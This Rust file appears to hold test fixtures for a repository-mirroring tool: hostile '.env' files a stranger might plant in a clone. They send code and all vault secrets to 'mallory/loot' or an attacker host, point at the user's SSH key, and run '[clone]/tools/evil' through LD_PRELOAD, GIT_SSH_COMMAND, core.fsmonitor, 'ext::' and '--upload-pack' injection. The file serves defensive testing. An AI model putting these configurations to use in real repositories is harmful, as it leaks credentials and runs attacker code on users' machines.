//! What strangers write.

/// A clone that a stranger made.
pub struct Row {
    /// What is tried.
    pub name: &'static str,
    /// The `.env`: `[host]` is the stranger's host, `[clone]` their clone, `[user]` the user's own clone.
    pub env: &'static str,
}

const fn row(name: &'static str, env: &'static str) -> Row {
    Row { name, env }
}

pub const ROWS: &[Row] = &[
    row("a host of theirs", "MIRROR_1_TYPE=git\nMIRROR_1_URL=[host]/x.git\n"),
    row("a repository with hooks in the clone", "MIRROR_1_TYPE=git\nMIRROR_1_URL=./tools/cache.git\n"),
    row("the same as file://", "MIRROR_1_TYPE=git\nMIRROR_1_URL=file://[clone]/tools/cache.git\n"),
    row("the same by a way around", "MIRROR_1_TYPE=git\nMIRROR_1_URL=[clone]/tools/../tools/cache.git\n"),
    row("an ssh host", "MIRROR_1_TYPE=git\nMIRROR_1_URL=ssh://git@127.0.0.1:1/x.git\n"),
    row("an ssh host in the short form", "MIRROR_1_TYPE=git\nMIRROR_1_URL=git@127.0.0.1:x.git\n"),
    row("a repository of theirs on GitHub", "MIRROR_1_REPO=mallory/loot\n"),
    row(
        "the user's own primary as mirror",
        "MIRROR_SOURCE=mallory/loot\nMIRROR_SOURCE_TOKEN=ghp_x\nMIRROR_1_REPO=ada/orchestrator\n",
    ),
    row("the user's standby as mirror", "MIRROR_1_REPO=ada-backup/orchestrator\n"),
    row(
        "the user's repository as source",
        "MIRROR_SOURCE=ada/orchestrator\nMIRROR_SOURCE_TOKEN=ghp_x\nMIRROR_1_TYPE=git\nMIRROR_1_URL=[host]/x.git\n",
    ),
    row(
        "the user's repository by its URL",
        "MIRROR_SOURCE=https://github.com/ada/orchestrator.git\nMIRROR_SOURCE_TOKEN=ghp_x\nMIRROR_1_REPO=mallory/loot\n",
    ),
    row("the user's clone as source", "MIRROR_SOURCE=[user]\nMIRROR_1_TYPE=git\nMIRROR_1_URL=[host]/x.git\n"),
    row(
        "all of the vault",
        "MIRROR_SOURCE=ada/orchestrator\nMIRROR_SOURCE_TOKEN=ghp_x\nMIRROR_SECRETS=*\nMIRROR_7_REPO=mallory/loot\n",
    ),
    row("names in the vault", "MIRROR_SECRETS=RESEND_API_KEY,TWILIO_*\nMIRROR_1_REPO=mallory/loot\n"),
    row("all variables", "MIRROR_VARS=*\nMIRROR_1_REPO=mallory/loot\n"),
    row(
        "the user's ssh key",
        "MIRROR_1_TYPE=git\nMIRROR_1_URL=ssh://git@127.0.0.1:1/x.git\nMIRROR_1_SSH_KEY_PATH=~/.ssh/id_ed25519\n",
    ),
    row(
        "a key of theirs",
        "MIRROR_1_TYPE=git\nMIRROR_1_URL=ssh://git@127.0.0.1:1/x.git\nMIRROR_1_SSH_KEY_PATH=./tools/key\n",
    ),
    row(
        "a token of theirs",
        "MIRROR_1_REPO=ada-backup/orchestrator\nMIRROR_1_TOKEN=ghp_theirs000000000000000000000000000000\n",
    ),
    row(
        "all aspects",
        "MIRROR_1_REPO=mallory/loot\nMIRROR_1_SYNC_CODE=true\nMIRROR_1_SYNC_SECRETS=true\nMIRROR_1_SYNC_VARS=true\nMIRROR_1_SYNC_WORKFLOWS=true\n",
    ),
    row(
        "secrets alone",
        "MIRROR_1_REPO=mallory/loot\nMIRROR_1_SYNC_CODE=false\nMIRROR_1_SYNC_VARS=false\nMIRROR_1_SYNC_WORKFLOWS=false\n",
    ),
    row("switched on", "MIRROR_ENABLED=true\nMIRROR_1_REPO=mallory/loot\nMIRROR_1_ENABLED=true\n"),
    row("switched off", "MIRROR_ENABLED=false\nMIRROR_1_REPO=mallory/loot\n"),
    row(
        "many mirrors",
        "MIRROR_1_REPO=mallory/loot\nMIRROR_2_TYPE=git\nMIRROR_2_URL=[host]/x.git\nMIRROR_9_TYPE=git\nMIRROR_9_URL=./tools/cache.git\n",
    ),
    row("another API", "MIRROR_1_REPO=mallory/loot\nSTANDIN_GITHUB_API_URL=[host]\n"),
    row("another server", "MIRROR_1_REPO=mallory/loot\nSTANDIN_GITHUB_SERVER_URL=[host]\n"),
    row("another gh", "MIRROR_1_REPO=mallory/loot\nSTANDIN_GH_CONFIG_DIR=[clone]/tools\n"),
    row("a configuration of theirs", "MIRROR_1_REPO=mallory/loot\nSTANDIN_CONFIG=./standin.toml\n"),
    row("a memory of theirs", "MIRROR_1_REPO=mallory/loot\nSTANDIN_STATE_DIR=./state\n"),
    row("a yes of theirs", "MIRROR_1_REPO=mallory/loot\nSTANDIN_ALLOW=*\n"),
    row("a schedule", "MIRROR_1_REPO=mallory/loot\nSTANDIN_SCHEDULE=true\nSTANDIN_SYNC_INTERVAL=10s\n"),
    row("limits", "MIRROR_1_REPO=mallory/loot\nSTANDIN_PARALLEL=1\nSTANDIN_RUN_LIMIT=1s\nSTANDIN_REQUEST_LIMIT=1s\n"),
    row(
        "programs",
        "MIRROR_1_REPO=mallory/loot\nSTANDIN_GIT=[clone]/tools/evil\nSTANDIN_GH=[clone]/tools/evil\nPATH=[clone]/tools\n",
    ),
    row(
        "what git reads",
        "MIRROR_1_REPO=mallory/loot\nGIT_SSH_COMMAND=[clone]/tools/evil\nGIT_CONFIG_COUNT=1\nGIT_CONFIG_KEY_0=core.fsmonitor\nGIT_CONFIG_VALUE_0=[clone]/tools/evil\nGIT_EXEC_PATH=[clone]/tools\n",
    ),
    row(
        "what all programs read",
        "MIRROR_1_REPO=mallory/loot\nLD_PRELOAD=[clone]/tools/evil\nHTTPS_PROXY=[host]\nHTTP_PROXY=[host]\nALL_PROXY=[host]\n",
    ),
    row("tokens of other programs", "MIRROR_1_REPO=mallory/loot\nGH_TOKEN=ghp_x\nGITHUB_TOKEN=ghp_x\n"),
    row("settings of another kind", "MIRROR_1_REPO=mallory/loot\nGIT_SYNC_ALPHA=true\nGIT_SYNC_TICK_INTERVAL=1s\n"),
    row("exported", "export MIRROR_1_REPO=mallory/loot\n"),
    row("in quotes, with other line ends", "MIRROR_1_TYPE='git'\r\nMIRROR_1_URL=\"[host]/x.git\"\r\n"),
    row("behind a byte order mark", "\u{feff}MIRROR_1_REPO=mallory/loot\n"),
    row("twice", "MIRROR_1_REPO=ada-backup/orchestrator\nMIRROR_1_REPO=mallory/loot\n"),
    row(
        "hidden by control characters",
        "MIRROR_1_REPO=mallory/loot\nMIRROR_1_SSH_KEY_PATH=\"/x\\r\u{1b}[2K\u{202e}y\"\n",
    ),
    row("in small letters", "mirror_1_repo=mallory/loot\nMIRROR_2_REPO=mallory/loot\n"),
    row("a role", "MIRROR_1_REPO=mallory/loot\nMIRROR_ROLE=MASTER\n"),
    row("a helper as URL", "MIRROR_1_TYPE=git\nMIRROR_1_URL=\"ext::[clone]/tools/evil\"\n"),
    row("an option as URL", "MIRROR_1_TYPE=git\nMIRROR_1_URL=--upload-pack=[clone]/tools/evil\n"),
];
